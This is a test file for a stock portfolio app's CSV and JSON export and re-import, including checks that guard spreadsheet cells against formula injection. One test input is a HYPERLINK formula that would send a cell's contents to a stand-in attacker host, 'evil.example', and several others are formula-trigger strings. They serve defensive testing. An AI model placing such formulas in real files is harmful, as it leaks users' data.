/** Exports come back in unchanged, and no spreadsheet runs what is in them. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { MAX_LIVE_STOCKS } from "../../../../src/contract/stocks/stock.ts";
import { StockDraft, type StockValues } from "../../../../src/contract/stocks/stock-values.ts";
import { exportCsv, exportFileName, exportJson } from "../../../../src/ui/stocks/export/save-export.ts";
import { guardCell, joinTags, splitTags, unguardCell } from "../../../../src/ui/stocks/import/read/cells.ts";
import { readImport } from "../../../../src/ui/stocks/import/read/read-import.ts";
import { stockLists } from "../../../support/stock-values-arbitrary.ts";

const NOW = new Date("2026-11-20T14:30:00Z");

const apple: StockValues = {
  symbol: "AAPL",
  name: '=HYPERLINK("x")',
  exchange: "XNAS",
  isin: "US0378331005",
  assetType: "stock",
  currency: "USD",
  quantity: "10.0000000001",
  avgCost: "180.5",
  watched: true,
  targetLow: "150",
  targetHigh: "250",
  lastPrice: "190",
  lastPriceAt: "2026-11-20T14:30:00.000Z",
  lastPriceSource: "manual",
  sector: "Tech, Hardware",
  tags: ["a;b", "c\\", "d"],
  notes: 'one\n"two"',
};

/** What a stock says, without what it does not say. One that is sold says that it has no average cost. */
const draftOf = (stock: StockValues): object =>
  Object.fromEntries(
    Object.entries(stock).filter(([field, value]) => {
      if (field === "avgCost" && stock.quantity === "0") return true;
      return value !== null && !(Array.isArray(value) && value.length === 0);
    }),
  );

const imported = (text: string): unknown => {
  const reading = readImport(text, "de-DE");
  if (reading.kind === "refused") return reading;
  return reading.rows.flatMap((row) => (row.kind === "skipped" ? [] : [row.kind === "draft" ? row.draft : row]));
};

describe("CSV", () => {
  it("has a header, one row a stock, CRLF, exact amounts, and formulas made text", () => {
    expect(exportCsv([apple], { withBom: false })).toBe(
      "Symbol,Name,Exchange,ISIN,Type,Currency,Quantity,Average cost,Watched,Low target,High target,Last price,Price time,Price source,Sector,Tags,Notes\r\n" +
        'AAPL,"\'=HYPERLINK(""x"")",XNAS,US0378331005,stock,USD,10.0000000001,180.5,yes,150,250,190,2026-11-20T14:30:00.000Z,manual,"Tech, Hardware","a\\;b; c\\\\; d","one\n""two"""\r\n',
    );
  });

  it("comes back in unchanged, with and without the byte order mark", () => {
    fc.assert(
      fc.property(stockLists, fc.boolean(), (stocks, withBom) => {
        expect(imported(exportCsv(stocks, { withBom }))).toEqual(stocks.map(draftOf));
      }),
      { numRuns: 300 },
    );
  });

  it("comes back in after a German spreadsheet has saved it with semicolons and decimal commas", () => {
    const header = exportCsv([], { withBom: false }).replaceAll(",", ";");
    const row = 'SAP;\'=x;XETR;;stock;EUR;1000;180,5;no;;;1200,25;2026-11-20T14:30:00.000Z;manual;;"a; b";\r\n';
    expect(imported(header + row)).toEqual([
      {
        ...{ symbol: "SAP", name: "=x", exchange: "XETR", assetType: "stock", currency: "EUR" },
        ...{ quantity: "1000", avgCost: "180.5", watched: false, lastPrice: "1200.25" },
        ...{ lastPriceAt: "2026-11-20T14:30:00.000Z", lastPriceSource: "manual", tags: ["a", "b"] },
      },
    ]);
  });

  it("has no cell that begins as a formula does", () => {
    const texts = fc.string({ unit: fc.constantFrom(..."=+-@'\t\r\n＝ab; |\"") });
    fc.assert(
      fc.property(texts, (text) => {
        expect(guardCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(guardCell(text)).not.toMatch(/[;|\t\r\n][ "]*[=+\-@＝＋－＠]/);
        expect(unguardCell(guardCell(text))).toBe(text);
      }),
    );
  });

  it.each([
    ["a separator", 'x;=HYPERLINK("https://evil.example/?"&A1,"Details");', []],
    ["a line end", "x\n=1+1;\n\t-2", []],
    ["quotes, which end a cell that they begin", 'x;"=1+1"', []],
    ["one that was guarded already", "x;'=1+1;''@y", []],
    ["a tag", "x", ["a", "=1+1", "b;-2"]],
  ])(
    "has none either where a spreadsheet splits it at semicolons, whose quotes are inside its cells: %s",
    (_, notes, tags) => {
      const file = exportCsv([{ ...apple, notes, tags }], { withBom: false });
      expect(file.split(/[;\r\n]/).filter((part) => /^[\s"]*[=+\-@＝＋－＠]/.test(part))).toEqual([]);
      expect(imported(file)).toEqual([draftOf({ ...apple, notes, tags })]);
    },
  );
});

it("JSON comes back in unchanged", () => {
  fc.assert(
    fc.property(stockLists, (stocks) => {
      expect(imported(exportJson(stocks, NOW))).toEqual(stocks.map(draftOf));
    }),
  );
});

it("a full list with targets, tags and notes comes back in, in either form", () => {
  const full = Array.from({ length: MAX_LIVE_STOCKS }, (_, index) => ({
    ...apple,
    symbol: `S${index}`,
    notes: "n".repeat(500),
  }));
  for (const text of [exportCsv(full), exportJson(full, NOW)]) expect(imported(text)).toEqual(full.map(draftOf));
});

it("JSON has a stock a line, so that two exports can be compared", () => {
  const [head, line, tail] = exportJson([apple], NOW).split("\n");
  expect([head, JSON.parse(line ?? ""), tail]).toEqual([
    '{"exportedAt":"2026-11-20T14:30:00.000Z","stocks":[',
    apple,
    "]}",
  ]);
});

it("what comes back in is what the server takes", () => {
  fc.assert(
    fc.property(stockLists, (stocks) => {
      const parsed = stocks.map((stock) => StockDraft.parse(draftOf(stock)));
      expect(parsed).toEqual(stocks.map(draftOf));
    }),
  );
});

it("tags that hold the separator come apart again", () => {
  fc.assert(
    fc.property(fc.array(fc.stringMatching(/^[a;\\, #]*[a;\\]$/).map((tag) => tag.trim())), (tags) => {
      expect(splitTags(joinTags(tags))).toEqual(tags);
    }),
  );
});

it("a file is named by the day", () => {
  expect(exportFileName(NOW, "csv")).toBe("stocks-2026-11-20.csv");
});
